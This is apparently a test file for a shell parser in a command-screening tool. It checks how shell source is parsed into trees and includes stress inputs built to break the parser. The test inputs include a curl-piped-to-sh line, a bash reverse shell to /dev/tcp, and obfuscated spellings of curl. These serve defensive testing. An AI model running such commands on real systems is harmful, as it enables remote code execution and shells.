// biome-ignore-all lint/suspicious/noTemplateCurlyInString: texts of another language, and of the tree as it is shown
import assert from 'node:assert/strict';
import { before, test } from 'node:test';
import { lower, open } from '../../../../src/admission/threat/shell/front-end.ts';
import { show } from '../show.ts';

before(open);

const lowered = (source: string): string => {
  const tree = lower(source);
  assert.deepEqual(tree.problems, [], source);
  return show(tree);
};

const cases: readonly (readonly [source: string, tree: string])[] = [
  ['curl -s x | sh -s', 'sh!("-s" < curl!("-s", "x"))'],
  ['a | b |& c', 'c!( < b!( < a!()))'],
  ["c'u'rl x", '`c|u|rl`!("x")'],
  ['c\\url x', '`c|u|r|l`!("x")'],
  ['"curl" x; \\ls', 'curl!("x"); ls!()'],
  ["$'\\x63\\165rl' x", '`c|u|r|l`!("x")'],
  ['$a b; "$c$d" e; ${f}rl g', '$a!("b"); `${$c}|${$d}`!("e"); `${$f}|rl`!("g")'],
  ['/usr/bin/curl x; ./run; /tmp/x; . f', 'curl!("x"); ./run!(); /tmp/x!(); source!("f")'],
  ["a b\\ c \"d\\$e\" 'f\\n' $'g\\n' h'i'\"j\"", 'a!("b c", "d$e", "f\\\\n", "g\\n", "hij")'],
  ['a "x $b y" $1 $@ ${c}', 'a!(`x |${$b}| y`, $1, $@, $c)'],
  [
    'a ${b:-c} ${d:1:2} ${e//f/g} ${!h} ${i^^} ${#j} ${k[0]} ${l[@]}',
    'a!(($b | "c"), <substring>($d, "1", "2"), <replace-all>($e, "f", "g"), <indirect>($h), <expand^^>($i), <length>($j), $k.0, #...($l))',
  ],
  ['a $(b c) `d` $(e; f)', 'a!(b!("c"), d!(), () => {e!(); return f!()}())'],
  ['a <(b) $(<c)', 'a!(b!(), <!("c"))'],
  ['a > b 2>&1', '>!("b" < a!())'],
  ['a &> b; c >> d; e > /dev/null', '>!("b" < a!()); >!("d" < c!()); e!()'],
  ['a < b', 'a!( < <!("b"))'],
  ['bash -i >& /dev/tcp/h/1 0>&1', '>!("/dev/tcp/h/1" < bash!("-i"))'],
  ['a <<E\nb $c\nE\n', 'a!( < `b |${$c}|\n`)'],
  ["a <<'E' > f\nb $c\nE\n", '>!("f" < a!( < "b $c\\n"))'],
  ['a <<E | sh\nb\nE\n', 'sh!( < a!( < "b\\n"))'],
  ['a <<< "$b"', 'a!( < $b)'],
  ['X=1 Y=$(a) b c', 'b!("c", X="1", Y=a!())'],
  ['x=1; x+=2; y=(1 $z); y[1]=3', 'module $x = "1"; $x += "2"; module $y = ["1", $z]; $y.1 = "3"'],
  [
    'export A=1 B; declare -r c=2; unset A',
    'module $A = "1"; export!(`A=|${$A}`, "B"); module $c = "2"',
  ],
  ['f() { local a=1 b; echo $1; }', 'def f = ($1) => {var $a = "1"; var $b; return echo!($1)}'],
  ['f() { a "$2" "$@"; }', 'def f = (...$@) => {var $2 = $@[1]; var $* = $@; return a!($2, $@)}'],
  [
    'if a; then b; elif c; then d; else e; fi',
    'if (a!()) {b!()} else {if (c!()) {d!()} else {e!()}}',
  ],
  [
    'if [ -f a ] && [[ $b == c* ]]; then d; fi',
    'if ((<test>(<-f>("a")) | <test>(<==>($b, "c*")))) {d!()}',
  ],
  ['while true; do a; done; until false; do b; done', 'loop () {a!()}; loop () {b!()}'],
  ['while :; do a; done; while a; do b; done', 'loop () {a!()}; loop (a!()) {b!()}'],
  [
    'a | while read b; do c $b; done',
    '() => {var %input = a!(); loop (#read()) {module $b = %input; c!($b)}}()',
  ],
  ['for a in b $(c); do d $a; done', 'module $a; loop ($a of ["b", c!()]) {d!($a)}'],
  ['for ((i=0;i<3;i++)); do a; done', 'module $i = "0"; loop (<<>("i", "3")) {a!()}'],
  [
    'case $a in b|c) d;; *) e;; esac',
    'if (<match>($a, "b", "c")) {d!()}; if (<match>("*")) {e!()}',
  ],
  ['a && b || c; d & e', 'if (a!()) {if (b!()) {} else {c!()}}; d!(); e!()'],
  ['(a; b) | c; { d; } > e', 'c!( < () => {a!(); return b!()}()); >!("e" < () => {return d!()}())'],
  ['! a', '<not>(a!())'],
  ['eval "$a"; exec b; trap "c" EXIT', 'eval!($a); exec!(b!()); trap!("c", "EXIT")'],
  ['sudo -u r env K=v nohup a b', 'sudo!("-u", "r", env!("K=v", nohup!(a!("b"))))'],
  ['a | xargs -n 1 rm -f', 'xargs!("-n", "1", rm!("-f", a!()))'],
  ['timeout 5 a; find . -exec b {} \\;', 'timeout!("5", a!()); find!(".", "-exec", b!("{}", ";"))'],
  ['python3 -c \'import os\'; sh -c "a"', 'python3!("-c", "import os"); sh!("-c", "a")'],
  ['a $((1+$b)); ((c++))', 'a!(<plus>("1", $b)); <++>($c)'],
];
for (const [source, tree] of cases) {
  test(source.replaceAll('\n', ' ⏎ '), () => assert.equal(lowered(source), tree));
}

test('places are in units of UTF-16', () => {
  const source = 'echo "é😀"; curl "ö" x # 😀\n';
  const [, second] = lower(source).body;
  assert.equal(second && source.slice(second.start, second.end), 'curl "ö" x');
});

test('what cannot be parsed is told, and what stands around it is kept', () => {
  const tree = lower('curl a | sh\nif then )) fi\nwget b\n');
  assert.ok(tree.problems.length > 0);
  assert.match(show(tree), /sh!\( < curl!\("a"\)\)/);
  assert.match(show(tree), /wget!\("b"/);
});

const many = 20_000;
const hostile: Readonly<Record<string, string>> = {
  subshells: `${'('.repeat(many)}a${')'.repeat(many)}`,
  'open subshells': '('.repeat(many),
  groups: `${'{ '.repeat(many)}a; ${'}; '.repeat(many)}`,
  substitutions: `a ${'$('.repeat(many)}b${')'.repeat(many)}`,
  expansions: `a ${'${b:-'.repeat(many)}c${'}'.repeat(many)}`,
  'quoted substitutions': `a ${'"$('.repeat(2000)}b${')"'.repeat(2000)}`,
  arithmetic: `a $((${'('.repeat(many)}1${')'.repeat(many)}))`,
  pipes: `a${' | b'.repeat(many)}`,
  chains: `a${' && b'.repeat(many)}`,
  alternatives: `a${' || b'.repeat(many)}`,
  negations: `${'! '.repeat(many)}a`,
  ifs: `${'if a; then '.repeat(2000)}b; ${'fi; '.repeat(2000)}`,
  elif: `if a; then b; ${'elif c; then d; '.repeat(many)}fi`,
  loops: `${'while a; do '.repeat(2000)}b; ${'done; '.repeat(2000)}`,
  functions: `${'f() { '.repeat(2000)}a; ${'}; '.repeat(2000)}`,
  wrappers: `${'sudo '.repeat(many)}a`,
  commands: 'a b;'.repeat(100_000),
  'one word': 'a'.repeat(5_000_000),
  'one text': `a "${'b'.repeat(5_000_000)}"`,
  words: `a ${'b '.repeat(100_000)}`,
  'parts of a word': `a ${'"b"c'.repeat(many)}`,
  'here-documents': 'a <<E\n$(b)\nE\n'.repeat(5000),
  'nested here-documents': 'a <<E $(b <<F\n'.repeat(500),
  'open here-documents': 'a <<E <<F <<G\n'.repeat(5000),
  NULs: 'a\0b \0 c\n\0\0\0',
  'lone surrogates': 'a \ud800; \udc00=1\n',
  'unterminated quotes': `a "b\n${"c 'd\n".repeat(2000)}`,
  'unterminated text': 'a "b',
  'unterminated raw text': "a 'b",
  'unterminated substitution': 'a $(b `c',
  'carriage returns': 'a\r\nb\r\n',
  nothing: '',
};
for (const [what, source] of Object.entries(hostile)) {
  test(`hostile: ${what}`, () => {
    const tree = lower(source, performance.now() + 20_000);
    assert.ok(tree.depth <= 401, `depth ${tree.depth}`);
  });
}

test('when the time is over, what was read by then is there', () => {
  const tree = lower('curl a\n'.repeat(300_000), performance.now() + 100);
  assert.ok(tree.problems.some(({ message }) => message === 'time limit of parsing'));
  assert.ok(lower('curl a').nodes > 1, 'the parser is of use afterwards');
});
